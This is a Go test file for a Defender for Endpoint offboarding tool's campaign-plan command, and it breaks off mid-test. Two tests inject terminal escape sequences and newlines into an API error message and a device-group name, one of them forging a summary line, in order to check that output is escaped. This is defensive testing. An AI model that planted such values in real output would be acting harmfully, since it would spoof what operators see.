package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/csv"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/nats-io/nats.go"
	"github.com/nats-io/nats.go/jetstream"
	"go.uber.org/zap"
	"go.uber.org/zap/zaptest"

	"github.com/contoso-secops/mde-offboard/internal/app"
	"github.com/contoso-secops/mde-offboard/internal/config"
	"github.com/contoso-secops/mde-offboard/internal/mde"
	"github.com/contoso-secops/mde-offboard/internal/mde/mdesim"
	"github.com/contoso-secops/mde-offboard/internal/queue"
	"github.com/contoso-secops/mde-offboard/internal/queue/natstest"
	"github.com/contoso-secops/mde-offboard/internal/worker"
	"github.com/contoso-secops/mde-offboard/offboard"
)

// planEnv is a simulator with one tenant's inventory and a worker serving
// it, on an embedded NATS server.
type planEnv struct {
	sim      *mdesim.Server
	tenantID string
	app      *app.App
	dir      string
	stale    []mdesim.Machine // the devices a 90d plan must list, oldest first
}

// setupPlan: 300 devices, 200 of them unseen for 100 days or more; of
// those 5 carry the DoNotOffboard tag and 2 are named dc-*; every tenth
// stale device reports NoSensorData. A recent device is tagged too: it is
// not in the plan, and not counted as left out.
func setupPlan(t *testing.T, plan worker.PlanOptions) *planEnv {
	t.Helper()
	return setupPlanWith(t, plan, "400d", false)
}

// setupPlanWith is setupPlan with the tenant's requireInactiveFor, and
// with wide offboard and machines windows (1000/1m, in the worker and the
// simulator) when fast, so that a campaign of the plan (a device read for
// the guards, then the call) runs in seconds. sim, if given, changes the
// simulator's options.
func setupPlanWith(t *testing.T, plan worker.PlanOptions, inactive string, fast bool, sim ...func(*mdesim.Options)) *planEnv {
	t.Helper()
	simOpts := mdesim.Options{ShuffleLists: true}
	for _, f := range sim {
		f(&simOpts)
	}
	limits := ""
	if fast {
		wide := []mdesim.Window{{Count: 1000, Length: time.Minute}}
		simOpts.Limits = map[string][]mdesim.Window{"offboard": wide, "machines": wide}
		limits = "\n    limits:\n      offboard: [\"1000/1m\"]\n      machines: [\"1000/1m\"]"
	}
	e := &planEnv{sim: mdesim.New(simOpts), tenantID: "11111111-2222-3333-4444-555555555555", dir: t.TempDir()}
	base := e.sim.StartTLS()
	t.Cleanup(e.sim.Close)
	clientID, secret := "66666666-7777-8888-9999-000000000000", "plan-test-secret"
	e.sim.AddTenant(mdesim.Tenant{TenantID: e.tenantID, ClientID: clientID, ClientSecret: secret})
	now := time.Now()
	for i := range 300 {
		m := mdesim.Machine{
			ID: fmt.Sprintf("%040x", i+1), ComputerDNSName: fmt.Sprintf("pc-%04d.contoso.local", i),
			OSPlatform: "Windows11", HealthStatus: "Active", LastSeen: now.Add(-time.Hour),
		}
		if i == 250 {
			m.MachineTags = []string{"DoNotOffboard"}
		}
		if i < 200 {
			m.LastSeen = now.Add(-100*24*time.Hour - time.Duration(i)*time.Minute)
			m.HealthStatus = "Inactive"
			if i%10 == 0 {
				m.HealthStatus = "NoSensorData"
			}
		}
		switch {
		case i >= 20 && i < 25:
			m.MachineTags = []string{"Lab", "donotoffboard"}
		case i == 30 || i == 31:
			m.ComputerDNSName = fmt.Sprintf("dc-%02d.contoso.local", i)
		case i < 200:
			e.stale = append(e.stale, m)
		}
		e.sim.AddMachine(e.tenantID, m)
	}
	slices.Reverse(e.stale) // the larger i, the older
	secretFile := filepath.Join(e.dir, "contoso.secret")
	if err := os.WriteFile(secretFile, []byte(secret), 0o600); err != nil {
		t.Fatal(err)
	}
	f, err := config.Parse(fmt.Appendf(nil, `tenants:
  - name: contoso
    tenantId: %s
    clientId: %s
    clientSecretFile: %s
    apiBaseURL: %s
    authorityHost: %s
    guards:
      protect:
        computerDnsNames: ["dc-*.contoso.local"]
        machineTags: ["DoNotOffboard"]
      requireInactiveFor: %s%s
`, e.tenantID, clientID, secretFile, base, base, inactive, limits))
	if err != nil {
		t.Fatal(err)
	}
	e.app, err = app.New(app.Options{
		Tenants: f, DataDir: filepath.Join(e.dir, "nats"), EmbeddedListen: "127.0.0.1:-1", Listen: "127.0.0.1:0",
		Logger: zaptest.NewLogger(t, zaptest.Level(zap.WarnLevel)),
		HTTPClient: &http.Client{Transport: &http.Transport{
			TLSClientConfig: &tls.Config{RootCAs: e.sim.CertPool(), MinVersion: tls.VersionTLS12},
		}},
		Retry: worker.RetryPolicy{Base: 20 * time.Millisecond, Max: 200 * time.Millisecond},
		Plan:  plan,
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := e.app.Start(t.Context()); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = e.app.Stop(context.Background()) })
	return e
}

// ctl runs offboardctl against the env's NATS server.
func (e *planEnv) ctl(args ...string) (code int, stdout, stderr string) {
	var out, errb bytes.Buffer
	code = run(append([]string{"--nats-url", e.app.NATSURL()}, args...), &out, &errb)
	return code, out.String(), errb.String()
}

// calls counts the simulator's calls of the tenant by API.
func (e *planEnv) calls() map[string]int {
	n := map[string]int{}
	for _, c := range e.sim.Calls() {
		if strings.EqualFold(c.TenantID, e.tenantID) {
			n[c.API]++
		}
	}
	return n
}

func readCSV(t *testing.T, path string) [][]string {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", path, err)
	}
	return rows
}

// TestCampaignPlan: a 90d plan lists the 193 stale devices no guard
// protects, oldest first, with the contract's header; the 7 protected ones
// are counted by rule; requireInactiveFor (400d) does not apply; nothing is
// offboarded; the inventory takes one machines call per page (64 a page
// here: 200 stale devices, 4 pages), and the CSV, larger than the reply
// allows here, comes through the plans bucket, which is emptied.
func TestCampaignPlan(t *testing.T) {
	e := setupPlan(t, worker.PlanOptions{PageSize: 64, InlineMax: 4096})
	out := filepath.Join(e.dir, "stale.csv")
	code, stdout, stderr := e.ctl("campaign", "plan", "--tenant", "contoso", "--inactive-for", "90d", "--out", out)
	if code != exitOK {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	rows := readCSV(t, out)
	if !slices.Equal(rows[0], offboard.PlanHeader) {
		t.Errorf("header %v, want %v", rows[0], offboard.PlanHeader)
	}
	if len(rows)-1 != 193 {
		t.Fatalf("%d devices in the plan, want 193", len(rows)-1)
	}
	for i, m := range e.stale {
		row := rows[i+1]
		if row[0] != m.ID || row[1] != m.ComputerDNSName || row[3] != "Windows11" || row[4] != m.HealthStatus {
			t.Fatalf("row %d = %v, want device %s (%s)", i+1, row, m.ID, m.ComputerDNSName)
		}
		if last, err := time.Parse(time.RFC3339, row[2]); err != nil || !last.Equal(m.LastSeen.UTC().Truncate(100)) {
			t.Fatalf("row %d: lastSeen %q, want %v (RFC 3339)", i+1, row[2], m.LastSeen.UTC())
		}
	}
	for _, want := range []string{"193 devices", "protect.machineTags: 5", "protect.computerDnsNames: 2", "left out         7 protected",
		"Inactive 175, NoSensorData 18", "campaign run     about"} {
		if !strings.Contains(stdout, want) {
			t.Errorf("summary lacks %q:\n%s", want, stdout)
		}
	}
	calls := e.calls()
	if calls["offboard"] != 0 || calls["machineactions"] != 0 {
		t.Errorf("calls %v: a plan calls nothing but the inventory", calls)
	}
	if calls["machines"] != 4 {
		t.Errorf("%d machines calls, want 4 (one per page of 64)", calls["machines"])
	}
	store, err := e.js(t).ObjectStore(t.Context(), offboard.BucketPlans)
	if err != nil {
		t.Fatal(err)
	}
	if infos, err := store.List(t.Context()); err == nil || len(infos) > 0 {
		t.Errorf("plans bucket holds %d objects after the plan was fetched (%v)", len(infos), err)
	}

	// Filters: any of several values within a field, all fields; a small
	// plan comes in the reply.
	small := filepath.Join(e.dir, "small.csv")
	code, stdout, stderr = e.ctl("campaign", "plan", "--tenant", "contoso", "--inactive-for", "2400h",
		"--health", "nosensordata", "--health", "Unknown", "--os", "Windows11", "--os", "Linux", "--out", small)
	if code != exitOK {
		t.Fatalf("filtered plan: exit %d: %s", code, stderr)
	}
	rows = readCSV(t, small)
	// Devices 0, 10, ... 190 report NoSensorData; 20 is tagged, 30 named dc-30.
	if len(rows)-1 != 18 || !strings.Contains(stdout, "protect.computerDnsNames: 1; protect.machineTags: 1") {
		t.Errorf("filtered plan: %d rows, want 18:\n%s", len(rows)-1, stdout)
	}
}

// TestCampaignPlanPagesShorterThanAsked: the API's pages hold fewer
// devices than $top asks (its page size, 50 here, below the worker's 64),
// each cut-short answer saying more follow (@odata.nextLink). The plan
// reads on from the devices read, and lists every stale device. Observed:
// the first short page was taken for the last, and the plan listed 50 of
// the 200 stale devices, its exit status 0.
func TestCampaignPlanPagesShorterThanAsked(t *testing.T) {
	e := setupPlanWith(t, worker.PlanOptions{PageSize: 64, InlineMax: 4096}, "400d", false, func(o *mdesim.Options) { o.MaxPage = 50 })
	out := filepath.Join(e.dir, "stale.csv")
	code, stdout, stderr := e.ctl("campaign", "plan", "--tenant", "contoso", "--inactive-for", "90d", "--out", out)
	if code != exitOK {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	if rows := readCSV(t, out); len(rows)-1 != 193 || !strings.Contains(stdout, "protect.machineTags: 5") {
		t.Errorf("%d devices in the plan, want 193:\n%s", len(rows)-1, stdout)
	}
	// Each page after the first is asked from one device back (a device
	// read already shows that none was missed): 0, 49, 98, 147, 196.
	if n := e.calls()["machines"]; n != 5 {
		t.Errorf("%d machines calls, want 5 (pages of 50)", n)
	}
}

func (e *planEnv) js(t *testing.T) jetstream.JetStream {
	t.Helper()
	_, js := natstest.ConnectTo(t, e.app.NATSURL())
	return js
}

// TestCampaignPlanThenRun: the plan's CSV, run as a campaign as it is,
// offboards exactly the 193 devices of the plan, one action each.
func TestCampaignPlanThenRun(t *testing.T) {
	e := setupPlanWith(t, worker.PlanOptions{}, "90d", true)
	out := filepath.Join(e.dir, "stale.csv")
	if code, _, stderr := e.ctl("campaign", "plan", "--tenant", "contoso", "--inactive-for", "90d", "--out", out); code != exitOK {
		t.Fatalf("plan: exit %d: %s", code, stderr)
	}
	report := filepath.Join(e.dir, "report.csv")
	code, _, stderr := e.ctl("campaign", "run", "--tenant", "contoso", "--csv", out, "--report", report, "--timeout", "2m")
	if code != exitOK {
		t.Fatalf("run: exit %d: %s", code, stderr)
	}
	planned := map[string]bool{}
	for _, row := range readCSV(t, out)[1:] {
		planned[row[0]] = true
	}
	actions := map[string]int{}
	for _, a := range e.sim.Actions(e.tenantID) {
		actions[a.MachineID]++
	}
	if len(actions) != 193 {
		t.Errorf("actions for %d devices, want the plan's 193", len(actions))
	}
	for id, n := range actions {
		if !planned[id] || n != 1 {
			t.Errorf("device %s: %d actions (in the plan: %v)", id, n, planned[id])
		}
	}
	for _, row := range readCSV(t, report)[1:] {
		if row[4] != offboard.OutcomeCreated {
			t.Errorf("report row %v: want created", row)
		}
	}
}

// TestCampaignPlanUnservedTenant: no worker serves the tenant: a clear
// message, exit 1 within seconds, no file. A tenant no worker has set up
// (no consumers, as pause refuses it) is refused before it is asked for,
// so at once even when something else listens on the plan subjects (a
// "nats sub" tap: no "no responders" answer then, and the request would
// wait its 10 s for a worker). --unknown-tenant asks all the same.
func TestCampaignPlanUnservedTenant(t *testing.T) {
	e := setupPlan(t, worker.PlanOptions{})
	nc, err := nats.Connect(e.app.NATSURL())
	if err != nil {
		t.Fatal(err)
	}
	defer nc.Close()
	tap, err := nc.SubscribeSync(offboard.Subjects{}.Plan(">"))
	if err != nil {
		t.Fatal(err)
	}
	if err := nc.Flush(); err != nil {
		t.Fatal(err)
	}
	out := filepath.Join(e.dir, "nobody.csv")
	start := time.Now()
	code, _, stderr := e.ctl("campaign", "plan", "--tenant", "northwind", "--inactive-for", "30d", "--out", out)
	failedWithin(t, "", code, stderr, start, 2*time.Second, out, "tenant northwind: no worker has set up its consumers", "--unknown-tenant")
	if m, err := tap.NextMsg(100 * time.Millisecond); err == nil {
		t.Errorf("a plan request was sent: %s", m.Data)
	}
	// The tap gone before the next request, or the server would take it
	// for a responder: no "no responders" status, and the wait would be
	// the whole time allowed to answer.
	if err := tap.Unsubscribe(); err != nil {
		t.Fatal(err)
	}
	if err := nc.Flush(); err != nil {
		t.Fatal(err)
	}

	// Asked all the same: no worker serves it, said within seconds, as
	// NATS said it, not as a wait of 10 s that did not happen.
	start = time.Now()
	code, _, stderr = e.ctl("campaign", "plan", "--tenant", "northwind", "--inactive-for", "30d", "--out", out, "--unknown-tenant")
	failedWithin(t, "--unknown-tenant: ", code, stderr, start, 5*time.Second, out,
		"no worker serving the tenant answered", "nothing listens on mde.offboard.plan.northwind")
	if strings.Contains(stderr, "within") {
		t.Errorf("--unknown-tenant: stderr %q names a wait that did not happen", stderr)
	}
}

// failedWithin checks a plan that ended with exit 1 within limit of
// start, one line on stderr holding each of wants, and no file at out;
// what starts each complaint.
func failedWithin(t *testing.T, what string, code int, stderr string, start time.Time, limit time.Duration, out string, wants ...string) {
	t.Helper()
	ok := code == exitFailed && strings.Count(strings.TrimSpace(stderr), "\n") == 0
	for _, want := range wants {
		ok = ok && strings.Contains(stderr, want)
	}
	if !ok {
		t.Errorf("%sexit %d, stderr %q", what, code, stderr)
	}
	if took := time.Since(start); took > limit {
		t.Errorf("%stook %v", what, took)
	}
	if _, err := os.Stat(out); !os.IsNotExist(err) {
		t.Errorf("%sa file was written: %v", what, err)
	}
}

// TestCampaignPlanUsage: bad flags are exit 2, before any connection,
// and so is an --out that could not be written at the end.
func TestCampaignPlanUsage(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	for _, args := range [][]string{
		{"campaign", "plan", "--tenant", "contoso", "--inactive-for", "90d", "--out", dir},
		{"campaign", "plan", "--tenant", "contoso", "--inactive-for", "90d", "--out", filepath.Join(dir, "missing", "plan.csv")},
		{"campaign", "plan", "--tenant", "contoso"},
		{"campaign", "plan", "--inactive-for", "90d"},
		{"campaign", "plan", "--tenant", "contoso", "--inactive-for", "ninety"},
		{"campaign", "plan", "--tenant", "contoso", "--inactive-for", "-5d"},
		{"campaign", "plan", "--tenant", "Contoso!", "--inactive-for", "90d"},
		{"campaign", "plan", "--tenant", "contoso", "--inactive-for", "90d", "extra"},
		{"campaign", "plan", "--tenant", "contoso", "--inactive-for", "90d", "--health", "Stale"},
		{"campaign"},
	} {
		var out, errb bytes.Buffer
		if code := run(append([]string{"--nats-url", "nats://127.0.0.1:1"}, args...), &out, &errb); code != exitUsage {
			t.Errorf("%v: exit %d, want %d (stderr %q)", args, code, exitUsage, errb.String())
		}
	}
}

// TestCampaignPlanMissingFlagNamed: a plan without --tenant or without
// --inactive-for says which one is missing, in one line, exit 2, as
// campaign run does. It said both were required, whichever was given.
func TestCampaignPlanMissingFlagNamed(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		args    []string
		missing string
	}{
		{[]string{"--tenant", "contoso"}, "--inactive-for"},
		{[]string{"--inactive-for", "90d"}, "--tenant"},
		{nil, "--tenant"},
	} {
		var out, errb bytes.Buffer
		code := run(append([]string{"--nats-url", "nats://127.0.0.1:1", "campaign", "plan"}, tc.args...), &out, &errb)
		want := "offboardctl: " + tc.missing + " is required\n"
		if code != exitUsage || errb.String() != want || out.Len() != 0 {
			t.Errorf("%q: exit %d, stdout %q, stderr %q; want exit %d and %q", tc.args, code, out.String(), errb.String(), exitUsage, want)
		}
	}
}

// TestCampaignPlanBurstAnswered: a burst of plan requests (invalid ones,
// each answered "failed" at once, without a plan) is answered in full,
// though the tenants' plan subscriptions share one channel and one reader.
func TestCampaignPlanBurstAnswered(t *testing.T) {
	e := setupPlan(t, worker.PlanOptions{})
	nc, err := nats.Connect(e.app.NATSURL())
	if err != nil {
		t.Fatal(err)
	}
	defer nc.Close()
	inbox := nats.NewInbox()
	replies, err := nc.SubscribeSync(inbox)
	if err != nil {
		t.Fatal(err)
	}
	_ = replies.SetPendingLimits(-1, -1)
	if err := nc.Flush(); err != nil {
		t.Fatal(err)
	}
	const n = 2000
	subject := offboard.Subjects{}.Plan("contoso")
	for range n {
		if err := nc.PublishRequest(subject, inbox, []byte(`{}`)); err != nil {
			t.Fatal(err)
		}
	}
	if err := nc.Flush(); err != nil {
		t.Fatal(err)
	}
	got := 0
	for got < n {
		if _, err := replies.NextMsg(3 * time.Second); err != nil {
			break
		}
		got++
	}
	if got != n {
		t.Errorf("%d of %d plan requests answered", got, n)
	}
}

// setupPlanHeld is setupPlanWith whose simulator holds the first
// inventory read until hold is closed; held gets a value when it comes.
func setupPlanHeld(t *testing.T) (e *planEnv, hold chan struct{}, held chan struct{}) {
	t.Helper()
	hold, held = make(chan struct{}), make(chan struct{}, 1)
	e = setupPlanWith(t, worker.PlanOptions{}, "400d", false, func(o *mdesim.Options) {
		o.OnCall = func(c mdesim.Call) {
			if c.API == mde.APIMachines {
				select {
				case held <- struct{}{}:
					<-hold
				default:
				}
			}
		}
	})
	return e, hold, held
}

// TestCampaignPlanOneAtATime: a second plan of a tenant asked while one is
// being built is refused (exit 1, one line saying so) rather than read the
// inventory again beside it; once the first is done, a plan is built again.
func TestCampaignPlanOneAtATime(t *testing.T) {
	t.Parallel()
	e, hold, held := setupPlanHeld(t) // the first plan's first page waits
	out := filepath.Join(e.dir, "first.csv")
	first := make(chan int, 1)
	go func() {
		code, _, _ := e.ctl("campaign", "plan", "--tenant", "contoso", "--inactive-for", "90d", "--out", out)
		first <- code
	}()
	select {
	case <-held:
	case <-time.After(30 * time.Second):
		t.Fatal("the first plan read no page")
	}
	code, stdout, stderr := e.ctl("campaign", "plan", "--tenant", "contoso", "--inactive-for", "30d", "--out", filepath.Join(e.dir, "second.csv"))
	if code != exitFailed || !strings.Contains(stderr, "busy: a plan of tenant contoso is being built already") || strings.Count(strings.TrimSpace(stderr), "\n") != 0 {
		t.Errorf("second plan: exit %d, stdout %q, stderr %q", code, stdout, stderr)
	}
	close(hold)
	if code := <-first; code != exitOK {
		t.Fatalf("first plan: exit %d", code)
	}
	if code, _, stderr := e.ctl("campaign", "plan", "--tenant", "contoso", "--inactive-for", "30d", "--out", filepath.Join(e.dir, "third.csv")); code != exitOK {
		t.Errorf("a plan after the first: exit %d, stderr %q", code, stderr)
	}
}

// TestCampaignPlanWhileTheFilesDisagree: while another live replica's
// tenants file gives the tenant another Entra tenant or application, no
// plan is built (this replica's file may be the wrong one, and its plan
// would list another tenant's devices): exit 1, one line that says why.
func TestCampaignPlanWhileTheFilesDisagree(t *testing.T) {
	t.Parallel()
	e := setupPlan(t, worker.PlanOptions{})
	nc, err := nats.Connect(e.app.NATSURL())
	if err != nil {
		t.Fatal(err)
	}
	defer nc.Close()
	js, err := jetstream.New(nc)
	if err != nil {
		t.Fatal(err)
	}
	kv, err := js.KeyValue(t.Context(), queue.BucketPresence)
	if err != nil {
		t.Fatal(err)
	}
	other := fmt.Sprintf(`{"tenants":["contoso"],"apps":{"contoso":%q},"instance":"other-process"}`,
		queue.AppDigest("99999999-9999-9999-9999-999999999999", "66666666-7777-8888-9999-000000000000"))
	if _, err := kv.Put(t.Context(), "other-replica", []byte(other)); err != nil {
		t.Fatal(err)
	}
	deadline := time.Now().Add(10 * time.Second)
	for {
		// A try before the worker read the other replica's entry may
		// write its plan: the refused one must write none.
		_ = os.Remove(filepath.Join(e.dir, "held.csv"))
		code, stdout, stderr := e.ctl("campaign", "plan", "--tenant", "contoso", "--inactive-for", "90d", "--out", filepath.Join(e.dir, "held.csv"))
		if code == exitFailed && strings.Contains(stderr, "held: the replicas' tenants files disagree on tenant contoso (replica other-replica serves it with another Entra tenant or application)") &&
			strings.Count(strings.TrimSpace(stderr), "\n") == 0 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("exit %d, stdout %q, stderr %q", code, stdout, stderr)
		}
		time.Sleep(100 * time.Millisecond)
	}
	if _, err := os.Stat(filepath.Join(e.dir, "held.csv")); err == nil {
		t.Error("a plan was written")
	}
}

// TestCampaignPlanOtherResponders: what else answers a plan request (a
// stream that keeps the plan subjects answers with its publish
// acknowledgement; a tool listening on them may answer for another
// tenant, or anything) is passed over: the worker's plan is written.
func TestCampaignPlanOtherResponders(t *testing.T) {
	t.Parallel()
	e := setupPlan(t, worker.PlanOptions{})
	js := e.js(t)
	if _, err := js.CreateStream(t.Context(), jetstream.StreamConfig{Name: "AUDIT", Subjects: []string{offboard.Subjects{}.Plan(">")}}); err != nil {
		t.Fatal(err)
	}
	nc := js.Conn()
	if _, err := nc.Subscribe(offboard.Subjects{}.Plan("contoso"), func(m *nats.Msg) {
		_ = m.Respond([]byte(`{"state":"done","tenant":"fabrikam","count":1,"csv":"bWFjaGluZUlkCg=="}`))
		_ = m.Respond([]byte(`not json`))
	}); err != nil {
		t.Fatal(err)
	}
	if err := nc.Flush(); err != nil {
		t.Fatal(err)
	}
	out := filepath.Join(e.dir, "audited.csv")
	code, stdout, stderr := e.ctl("campaign", "plan", "--tenant", "contoso", "--inactive-for", "90d", "--out", out)
	if code != exitOK || !strings.Contains(stdout, "plan for tenant contoso: 193 devices") {
		t.Fatalf("exit %d, stdout %q, stderr %q", code, stdout, stderr)
	}
	if rows := readCSV(t, out); len(rows)-1 != 193 || !slices.Equal(rows[0], offboard.PlanHeader) {
		t.Errorf("%d rows, header %v", len(rows)-1, rows[0])
	}
}

// TestCampaignPlanTimeoutEndsThePlan: --timeout bounds the worker's side
// of the plan too: once offboardctl gave up, the worker stops reading the
// inventory, and the tenant is not left busy with a plan nobody reads.
func TestCampaignPlanTimeoutEndsThePlan(t *testing.T) {
	t.Parallel()
	e, hold, _ := setupPlanHeld(t) // the first plan's first page never comes
	t.Cleanup(func() { close(hold) })
	code, _, stderr := e.ctl("campaign", "plan", "--tenant", "contoso", "--inactive-for", "90d", "--timeout", "3s", "--out", filepath.Join(e.dir, "first.csv"))
	if code != exitFailed || !strings.Contains(stderr, "--timeout 3s") {
		t.Fatalf("first plan: exit %d, stderr %q, want 1 and the --timeout that ran out", code, stderr)
	}
	deadline := time.Now().Add(10 * time.Second)
	for {
		code, _, stderr = e.ctl("campaign", "plan", "--tenant", "contoso", "--inactive-for", "90d", "--out", filepath.Join(e.dir, "second.csv"))
		if code == exitOK {
			break
		}
		if !strings.Contains(stderr, "busy") || time.Now().After(deadline) {
			t.Fatalf("second plan: exit %d, stderr %q", code, stderr)
		}
		time.Sleep(100 * time.Millisecond)
	}
}

// TestCampaignPlanFailureShownEscaped: the worker's reason for no plan
// quotes the API's answer; its terminal escapes and line breaks are
// shown escaped, on the one line of the error.
func TestCampaignPlanFailureShownEscaped(t *testing.T) {
	t.Parallel()
	e := setupPlan(t, worker.PlanOptions{})
	e.sim.InjectStatus(e.tenantID, mde.APIMachines, 400, "ODataError", "bad\x1b[2J\x1b[Hfilter\nplan written", 1, 0)
	code, _, stderr := e.ctl("campaign", "plan", "--tenant", "contoso", "--inactive-for", "90d", "--out", filepath.Join(e.dir, "x.csv"))
	if code != exitFailed || strings.Contains(stderr, "\x1b") || strings.Count(strings.TrimSpace(stderr), "\n") != 0 ||
		!strings.Contains(stderr, `inventory_unreadable: read the inventory: HTTP 400 ODataError: bad\x1b[2J\x1b[Hfilter\nplan written`) {
		t.Errorf("exit %d, stderr %q", code, stderr)
	}
}

// TestCampaignPlanLeavesOutPlaceholderLastSeen: a device whose lastSeen
// is a placeholder for never seen (.NET's 0001-01-01, Unix's 1970-01-01)
// is not in a plan of inactive devices: nothing says it has been inactive.
func TestCampaignPlanLeavesOutPlaceholderLastSeen(t *testing.T) {
	e := setupPlan(t, worker.PlanOptions{})
	never := []mdesim.Machine{
		// A second past .NET's placeholder: the simulator takes the zero time for now.
		{ID: fmt.Sprintf("%040x", 1001), ComputerDNSName: "never-dotnet.contoso.local", OSPlatform: "Windows11", HealthStatus: "Inactive", LastSeen: time.Date(1, 1, 1, 0, 0, 1, 0, time.UTC)},
		{ID: fmt.Sprintf("%040x", 1002), ComputerDNSName: "never-unix.contoso.local", OSPlatform: "Windows11", HealthStatus: "Inactive", LastSeen: time.Unix(0, 0)},
	}
	for _, m := range never {
		e.sim.AddMachine(e.tenantID, m)
	}
	out := filepath.Join(e.dir, "stale.csv")
	if code, _, stderr := e.ctl("campaign", "plan", "--tenant", "contoso", "--inactive-for", "90d", "--out", out); code != exitOK {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	rows := readCSV(t, out)
	for _, row := range rows[1:] {
		if strings.HasPrefix(row[1], "never-") {
			t.Errorf("plan row %v: a device never seen is in the plan", row)
		}
	}
	if len(rows)-1 != len(e.stale) {
		t.Errorf("%d devices in the plan, want the %d stale ones", len(rows)-1, len(e.stale))
	}
}

// TestCampaignPlanReplyLargerThanAMessage: a plan whose CSV is just small
// enough for the reply, of devices in thousands of device groups, makes a
// reply (the CSV, base64, and the counts by group) larger than a NATS
// message: the CSV must go through the plans bucket, and the plan be
// written, rather than the reply be dropped and offboardctl wait for
// --timeout. Counts by group that alone do not fit a message fail the
// plan at once, with a reason.
func TestCampaignPlanReplyLargerThanAMessage(t *testing.T) {
	t.Parallel()
	e := setupPlan(t, worker.PlanOptions{})
	old := time.Now().Add(-200 * 24 * time.Hour)
	add := func(from, n, nameLen int) {
		for i := range n {
			e.sim.AddMachine(e.tenantID, mdesim.Machine{
				ID: fmt.Sprintf("%040x", from+i), ComputerDNSName: fmt.Sprintf("g-%06d.contoso.local", from+i),
				OSPlatform: "Windows11", HealthStatus: "Inactive", LastSeen: old,
				RbacGroupName: fmt.Sprintf("%06d-%s", from+i, strings.Repeat("g", nameLen)),
			})
		}
	}
	add(100_000, 2500, 150)
	out := filepath.Join(e.dir, "groups.csv")
	start := time.Now()
	code, _, stderr := e.ctl("campaign", "plan", "--tenant", "contoso", "--inactive-for", "90d", "--timeout", "2m", "--out", out)
	if code != exitOK {
		t.Fatalf("exit %d after %v: %s", code, time.Since(start).Round(time.Second), stderr)
	}
	if rows := readCSV(t, out); len(rows)-1 != len(e.stale)+2500 {
		t.Errorf("%d devices in the plan, want %d", len(rows)-1, len(e.stale)+2500)
	}

	add(200_000, 5000, 250)
	// The worker's reason, not --timeout run out: a reply dropped for its
	// size left offboardctl waiting for it until then. Listing 7,500
	// devices takes seconds, more on a busy machine: the time it took
	// tells nothing.
	start = time.Now()
	code, _, stderr = e.ctl("campaign", "plan", "--tenant", "contoso", "--inactive-for", "90d", "--timeout", "2m", "--out", filepath.Join(e.dir, "more.csv"))
	if code != exitFailed || !strings.Contains(stderr, "larger than a NATS message carries") || strings.Contains(stderr, "--timeout") {
		t.Errorf("counts larger than a message: exit %d after %v, stderr %q; want exit 1 with the worker's reason",
			code, time.Since(start).Round(time.Second), stderr)
	}
}

// TestPlanRequestHealthSpelledAsDocumented: the inventory's filter takes
// a healthStatus spelled as the API documents it and answers 400 to any
// other value, so a worker spells a plan request's value so, whatever its
// case, and refuses one that is none of Defender's without reading the
// inventory, whoever asked (here a publisher other than offboardctl).
func TestPlanRequestHealthSpelledAsDocumented(t *testing.T) {
	t.Parallel()
	e := setupPlan(t, worker.PlanOptions{})
	js := e.js(t)
	ask := func(health ...string) *offboard.PlanReply {
		t.Helper()
		ctx, cancel := context.WithTimeout(t.Context(), 30*time.Second)
		defer cancel()
		req := offboard.PlanRequest{InactiveFor: 2400 * time.Hour, Health: health, OS: []string{"Windows11"}}
		reply, _, err := offboard.RequestPlan(ctx, js, offboard.Subjects{}, "contoso", req, 10*time.Second)
		if err != nil {
			t.Fatalf("%v: %v", health, err)
		}
		return reply
	}
	if r := ask("NOSENSORDATA"); r.State != offboard.PlanDone || r.Count != 18 {
		t.Errorf("NOSENSORDATA: state %s, %d devices, error %+v; want done with 18", r.State, r.Count, r.Error)
	}
	before := e.calls()["machines"]
	r := ask("Stale")
	if r.State != offboard.PlanFailed || r.Error == nil || r.Error.Code != offboard.PlanCodeInvalid ||
		!strings.Contains(r.Error.Message, `healthStatus "Stale" is none of Defender's`) {
		t.Errorf("Stale: state %s, error %+v; want failed %s naming the value", r.State, r.Error, offboard.PlanCodeInvalid)
	}
	if after := e.calls()["machines"]; after != before {
		t.Errorf("%d inventory reads for a value that is none of Defender's", after-before)
	}
}

// TestCampaignPlanSummaryShowsNamesEscaped: the summary's counts name the
// device groups and platforms as the API gave them; their terminal
// escapes and line breaks are shown escaped, so a group's name can
// neither clear the screen nor add a line of its own to the summary.
func TestCampaignPlanSummaryShowsNamesEscaped(t *testing.T) {
	t.Parallel()
	e := setupPlan(t, worker.PlanOptions{})
	e.sim.AddMachine(e.tenantID, mdesim.Machine{
		ID: fmt.Sprintf("%040x", 5000), ComputerDNSName: "odd.contoso.local", OSPlatform: "Windows11\r", HealthStatus: "Inactive",
		LastSeen: time.Now().Add(-200 * 24 * time.Hour), RbacGroupName: "Lab\x1b[2J\x1b[H\n  left out         0 protected",
	})
	code, stdout, stderr := e.ctl("campaign", "plan", "--tenant", "contoso", "--inactive-for", "90d", "--out", filepath.Join(e.dir, "odd.csv"))
	if code != exitOK {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	if strings.ContainsAny(stdout, "\x1b\r") || strings.Count(stdout, "\n") != 7 || strings.Count(stdout, "\n  left out") != 1 ||
		!strings.Contains(stdout, `Lab\x1b[2J\x1b[H\n  left out         0 protected 1`) || !strings.Contains(stdout, `Windows11\r 1`) {
		t.Errorf("summary:\n%s", stdout)
	}
}

// TestCampaignPlanTimeCountsTheBudget: the time campaign run would take
// is held to the tenant's budget in force when the budget is slower than
// the quota: 193 devices under a budget of 50/24h take three days, not
// the minute the offboard windows alone allow.
func TestCampaignPlanTimeCountsTheBudget(t *testing.T) {
	t.Parallel()
	e := setupPlan(t, worker.PlanOptions{})
	if code, _, stderr := e.ctl("budget", "contoso", "50/24h"); code != exitOK {
		t.Fatalf("budget: exit %d: %s", code, stderr)
	}
	out := filepath.Join(e.dir, "budget.csv")
